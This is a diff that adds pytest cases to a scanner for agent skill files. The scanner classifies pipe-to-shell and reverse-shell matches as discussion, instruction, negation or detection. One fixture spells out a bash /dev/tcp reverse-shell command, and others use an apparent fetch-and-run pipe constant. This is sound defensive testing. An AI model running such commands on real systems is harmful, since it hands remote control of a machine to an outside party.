@@ -66,12 +66,43 @@ def test_a_table_whose_header_announces_red_flags_is_discussion() -> None:
     assert _only(scan({"SKILL.md": skill_md(table)}), "exec.pipe-to-shell").span == "discussion"
 
 
+def test_a_list_announced_by_a_discussion_cue_is_discussion_to_its_end() -> None:
+    body = (
+        f"Dropper behaviour to look for in a sample:\n- runs `{PIPE}`\n- drops `/tmp/.x`\n\n"
+        f"Setup:\n- run `{PIPE}`\n"
+    )
+    report = scan({"SKILL.md": skill_md(body)})
+    spans = sorted(f.span for f in findings_of(report, "exec.pipe-to-shell"))
+    assert spans == ["discussion", "instruction"]
+    assert report.verdict == "FAIL"
+
+
+def test_a_plain_colon_line_does_not_announce_discussion() -> None:
+    body = f"Steps to take:\n- run `{PIPE}`\n"
+    assert _only(scan({"SKILL.md": skill_md(body)}), "exec.pipe-to-shell").span == "instruction"
+
+
 def test_a_forbidding_clause_is_negation_and_does_not_reach_past_its_end() -> None:
     report = scan({"SKILL.md": skill_md(f"Never run `{PIPE}`; ask the user to install it.")})
     assert _only(report, "exec.pipe-to-shell").span == "negation"
     assert report.verdict == "PASS"
     forget = scan({"SKILL.md": skill_md(f"Don't forget to run `{PIPE}` first.")})
     assert _only(forget, "exec.pipe-to-shell").span == "instruction"
+
+
+def test_a_bare_pattern_list_in_code_is_detection_content() -> None:
+    listed = f'PATTERNS = [\n    "{PIPE}",\n]\n'
+    report = scan(
+        {"SKILL.md": skill_md("Run `python scripts/check.py`."), "scripts/check.py": listed}
+    )
+    assert _only(report, "exec.pipe-to-shell").span == "detection"
+    assert report.verdict == "PASS"
+
+
+def test_a_reverse_shell_payloads_section_is_discussion() -> None:
+    body = "## Reverse shell payloads\n\n- `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`\n"
+    finding = _only(scan({"SKILL.md": skill_md(body)}), "revshell.dev-tcp")
+    assert finding.span == "discussion"
 
 
 def test_negation_is_read_in_prose_only() -> None:
